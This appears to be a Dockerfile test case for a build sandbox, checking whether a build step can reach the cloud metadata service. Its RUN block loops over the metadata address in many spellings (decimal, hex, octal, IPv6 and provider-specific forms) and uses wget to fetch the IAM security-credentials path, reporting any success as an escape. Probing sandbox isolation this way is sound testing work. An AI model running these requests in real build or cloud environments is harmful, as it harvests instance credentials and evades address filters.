# tries: the metadata service of the cloud, by all of its addresses and spellings
# ends: Succeeded
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
RUN <<'ATTACK'
. /lib/hunt.sh
n=0
for host in 169.254.169.254 2852039166 0xA9FEA9FE 0251.0376.0251.0376 169.254.170.2 169.254.170.23 168.63.129.16 100.100.100.200 '[fd00:ec2::254]' '[fd20:ce::254]' '[fd00:42::42]' '[fd00:a9fe:a9fe::1]' '[fd00:c1::a9fe:a9fe]' '[fd00:100::100:200]' '[::ffff:169.254.169.254]' metadata.google.internal; do
  n=$((n + 1))
  said=$(wget -q -T 3 -O - "http://$host/latest/meta-data/iam/security-credentials/node" 2>/dev/null) && echo "ESCAPED $host: $said"
done
tried "$n"
ATTACK
